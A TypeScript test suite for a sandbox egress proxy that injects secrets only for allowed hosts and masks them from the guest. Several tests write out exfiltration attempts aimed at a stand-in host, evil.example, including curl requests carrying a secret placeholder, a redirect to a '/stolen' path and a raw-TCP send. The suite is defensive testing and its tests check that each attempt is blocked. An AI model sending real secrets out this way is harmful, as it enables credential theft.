/** Secrets from a program of a guest to a server and back, over TLS. @module */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import type { SecretConfig } from "../../../../src/egress/config.ts";
import {
  egressConfig,
  InterceptingListener,
  type ListenerOptions,
} from "../../../support/egress/intercepting_listener.ts";
import {
  echoRequest,
  httpOrigin,
  httpsOrigin,
  tcpOrigin,
  tlsConfig,
  tlsOrigin,
} from "../../../support/egress/origin.ts";
import { authorityFile, curl } from "../../../support/egress/programs.ts";
import { rawClient, received } from "../../../support/egress/raw_client.ts";
import { secret } from "../../../support/egress/secrets.ts";
import { test } from "../../../support/harness.ts";

const ALL = { headers: true, basicAuth: true, queryParams: true, body: true };
const API = "https://api.example/";
const EVIL = "https://evil.example/";

async function listenerWith(secrets: readonly SecretConfig[], options: Partial<ListenerOptions> = {}) {
  const seen: string[] = [];
  const origin = await httpsOrigin((request, response) => {
    seen.push(`${request.headers.authorization} ${request.url}`);
    echoRequest(request, response);
  });
  const listener = await InterceptingListener.open({
    tls: tlsConfig(),
    serverPort: origin.port,
    secrets,
    ...options,
  });
  const close = async () => {
    await listener[Symbol.asyncDispose]();
    await origin[Symbol.asyncDispose]();
  };
  return { listener, seen, [Symbol.asyncDispose]: close };
}

test("a secret reaches its host, and the guest does not get to see it", async () => {
  await using at = await listenerWith([secret("KEY", { injection: ALL })]);
  const words = ["-H", "Authorization: Bearer $MSB_KEY", "-d", "a=$MSB_KEY", `${API}?k=%24MSB_KEY`];
  const { stdout, status } = await curl(at.listener, words);
  assert.equal(status, 200);
  assert.deepEqual(at.seen, ["Bearer value-of-KEY /?k=value-of-KEY"]);
  assert.equal(JSON.parse(stdout).body, `a=${"*".repeat(12)}`);
  assert.doesNotMatch(stdout, /value-of-KEY/);
  assert.deepEqual(at.listener.events, [{ kind: "name", name: "api.example" }]);
});

test("a secret reaches its host in basic credentials, as curl writes them", async () => {
  await using at = await listenerWith([secret("KEY")]);
  await curl(at.listener, ["-u", "me:$MSB_KEY", API]);
  const [credentials = ""] = /Basic (\S+)/.exec(at.seen[0] ?? "")?.slice(1) ?? [];
  assert.equal(Buffer.from(credentials, "base64").toString(), "me:value-of-KEY");
});

for (const mib of [0.5, 3])
  test(`a secret is put into a body of ${mib} MiB, across its pieces, with the length that fits`, async () => {
    await using at = await listenerWith([
      secret("KEY", { value: "a-much-longer-value-of-KEY", injection: ALL }),
    ]);
    const unit = `${"x".repeat(1000)}$MSB_KEY`;
    const count = Math.ceil((mib * 2 ** 20) / unit.length);
    const words = ["-H", "Content-Type: text/plain", "-H", "Expect:", "--data-binary", "@-", API];
    const { stdout, status } = await curl(at.listener, words, unit.repeat(count));
    assert.equal(status, 200);
    const { body, rawHeaders } = JSON.parse(stdout);
    assert.equal(body, `${"x".repeat(1000)}${"*".repeat(26)}`.repeat(count));
    assert.ok(rawHeaders.includes(mib < 1 ? "Content-Length" : "Transfer-Encoding"));
  });

for (const [violation, expected] of [
  ["block", { status: 403, kind: "blocked", terminations: 0 }],
  ["block-and-log", { status: 403, kind: "violation", terminations: 0 }],
  ["block-and-terminate", { status: 403, kind: "violation", terminations: 1 }],
  ["passthrough", { status: 502, kind: "upstreamError", terminations: 0 }], // the server cannot prove that it is evil.example
] as const)
  test(`a placeholder on its way elsewhere is handled as "${violation}" says`, async () => {
    await using at = await listenerWith([secret("KEY")], { violation });
    const { stdout, status } = await curl(at.listener, ["-H", "X: $MSB_KEY", EVIL]);
    assert.equal(status, expected.status, stdout);
    assert.equal(at.listener.events.at(-1)?.kind, expected.kind);
    assert.equal(at.listener.terminations.length, expected.terminations);
    assert.deepEqual(at.seen, []);
    assert.doesNotMatch(JSON.stringify([at.listener.events, at.listener.terminations, stdout]), /value-of/);
  });

test("a violation names the secret and the host", async () => {
  const tls = tlsConfig({ scopedVerifyUpstream: [{ pattern: "evil.example", verify: false }] });
  await using at = await listenerWith([secret("KEY")], { tls });
  const { stdout } = await curl(at.listener, ["-d", `a=${"x".repeat(50_000)}%24MSB_KEY`, EVIL]);
  const reason = "the placeholder of the secret KEY may not be sent to this host";
  assert.equal(stdout, `microsandbox: ${reason}\n`);
  assert.deepEqual(at.listener.events.at(-1), {
    kind: "violation",
    reason,
    secret: "KEY",
    name: "evil.example",
  });
});

test("a redirect carries no secret to another host", async () => {
  await using origin = await httpsOrigin((request, response) => {
    if (request.url === "/") response.writeHead(302, { Location: "https://evil.example/stolen" }).end();
    else echoRequest(request, response);
  });
  await using listener = await InterceptingListener.open({
    tls: tlsConfig({ verifyUpstream: true }),
    serverPort: origin.port,
    secrets: [secret("KEY")],
  });
  const words = ["-L", "--location-trusted", "-H", "Authorization: Bearer $MSB_KEY", API];
  const { status } = await curl(listener, words);
  assert.equal(status, 403);
  assert.equal(listener.events.at(-1)?.kind, "violation");
});

test("a server that is not verified gets a secret only where that is allowed", async () => {
  const tls = tlsConfig({ verifyUpstream: false });
  for (const requireTlsIdentity of [true, false]) {
    await using at = await listenerWith([secret("KEY", { requireTlsIdentity })], { tls });
    const { status } = await curl(at.listener, ["-H", "Authorization: $MSB_KEY", API]);
    assert.equal(status, requireTlsIdentity ? 403 : 200);
    assert.deepEqual(at.seen, requireTlsIdentity ? [] : ["value-of-KEY /"]);
  }
});

test("escape: the name of an allowed host, shown to a server of the guest's choice that proves nothing", async () => {
  const secrets = [secret("KEY", { requireTlsIdentity: false })];
  let seen = "";
  await using plain = await httpOrigin((request, response) => {
    seen += request.headers.authorization;
    response.end();
  });
  const words = ["-H", "Authorization: $MSB_KEY"];
  for (const names of [[], ["evil.example"]]) {
    await using listener = await InterceptingListener.open({
      serverPort: plain.port,
      guestPort: 80,
      secrets,
      names,
    });
    assert.equal((await curl(listener, [...words, "http://api.example/"])).status, 403);
    await using at = await listenerWith(secrets, { tls: tlsConfig({ verifyUpstream: false }), names });
    assert.equal((await curl(at.listener, [...words, API])).status, 403);
    assert.deepEqual([seen, at.seen], ["", []]);
  }
});

test("HTTP without TLS carries no secret that asks for it, and no placeholder", async () => {
  await using origin = await httpOrigin(echoRequest);
  for (const [requireTlsIdentity, status] of [
    [true, 403],
    [false, 200],
  ] as const) {
    const secrets = [secret("KEY", { requireTlsIdentity })];
    await using listener = await InterceptingListener.open({
      serverPort: origin.port,
      guestPort: 80,
      secrets,
    });
    const output = await curl(listener, ["-H", "Authorization: $MSB_KEY", "http://api.example/"]);
    assert.equal(output.status, status);
  }
});

test("a protocol that is not HTTP carries no placeholder elsewhere", async () => {
  let got = "";
  await using origin = await tcpOrigin((socket) =>
    socket.on("data", (data) => {
      got += data.toString();
      socket.write("ok\r\n");
    }),
  );
  const secrets = [secret("KEY")];
  await using listener = await InterceptingListener.open({
    tls: tlsConfig(),
    serverPort: origin.port,
    secrets,
  });
  const client = rawClient(listener.port);
  client.write("AUTH $");
  client.write("\r\n");
  assert.equal(await received(client, 4), "ok\r\n");
  const closed = new Promise((resolve) => client.once("close", resolve));
  client.write("AUTH $MSB_KEY\r\n");
  await closed;
  assert.doesNotMatch(got, /MSB_KEY/);
  assert.equal(listener.events.at(-1)?.kind, "violation");
});

test("update() changes a secret for the next request, also on a connection that is open", async () => {
  const options = { tls: tlsConfig(), secrets: [secret("KEY")] };
  await using at = await listenerWith(options.secrets);
  const client = `
    const https = require("node:https");
    const agent = new https.Agent({ keepAlive: true, maxSockets: 1, ca: require("node:fs").readFileSync(process.argv[1]) });
    const get = () => new Promise((resolve, reject) => https.get({ host: "127.0.0.1", port: process.argv[2], servername: "api.example",
      agent, headers: { Host: "api.example", Authorization: "$MSB_KEY" } }, (r) => r.resume().on("end", resolve)).on("error", reject));
    get().then(() => console.log("first")).then(() => new Promise((r) => process.stdin.once("data", r))).then(get).then(() => process.exit(0));
  `;
  const child = spawn("node", ["-e", client, authorityFile(), String(at.listener.port)], {
    stdio: ["pipe", "pipe", "inherit"],
  });
  await new Promise((resolve) => child.stdout.once("data", resolve));
  at.listener.interceptor.update(
    egressConfig({ ...options, secrets: [secret("KEY", { value: "another value" })] }),
  );
  child.stdin.end("go\n");
  await new Promise((resolve) => child.once("close", resolve));
  assert.deepEqual(at.seen, ["value-of-KEY /", "another value /"]);
  assert.equal(at.listener.connections, 1);
});

test("no value stands in a placeholder's error, in an event, or in what the guest gets", async () => {
  await using at = await listenerWith([secret("KEY")]);
  const outputs = await Promise.all([
    curl(at.listener, ["-H", "X: value-of-KEY", EVIL]),
    curl(at.listener, ["-H", "Authorization: Bearer $MSB_KEY", "-X", "TRACE", API]),
  ]);
  assert.deepEqual(
    outputs.map(({ status }) => status),
    [403, 405],
  );
  assert.doesNotMatch(
    JSON.stringify([outputs.map(({ stdout }) => stdout), at.listener.events]),
    /value-of-KEY/,
  );
});

test("a value that a server puts into its status line or into a field's name does not reach the guest", async () => {
  const value = "value-of-KEY";
  await using origin = await tlsOrigin((socket) => {
    socket.on("data", (data) => {
      const has = data.includes(value) ? value : "nothing";
      socket.end(
        `HTTP/1.1 103 hint ${has}\r\nx-${has}: 1\r\n\r\nHTTP/1.1 400 not ${has}\r\nx-${has}: ${has}\r\nContent-Length: ${has.length}\r\n\r\n${has}`,
      );
    });
  });
  for (const hooks of [undefined, { onResponse: () => undefined }]) {
    const secrets = [secret("KEY")];
    await using listener = await InterceptingListener.open({
      tls: tlsConfig(),
      serverPort: origin.port,
      secrets,
      hooks,
    });
    const words = ["-v", "-H", "Authorization: Bearer $MSB_KEY", API];
    const { stdout, stderr, status } = await curl(listener, words);
    assert.equal(status, 400, stderr);
    const mask = "*".repeat(value.length);
    for (const text of [`103 hint ${mask}`, `400 not ${mask}`, `x-${mask}: ${mask}`])
      assert.ok(stderr.includes(text), `${text} in ${stderr}`);
    assert.ok(!`${stdout}${stderr}`.includes(value), `${stdout}${stderr}`);
  }
});
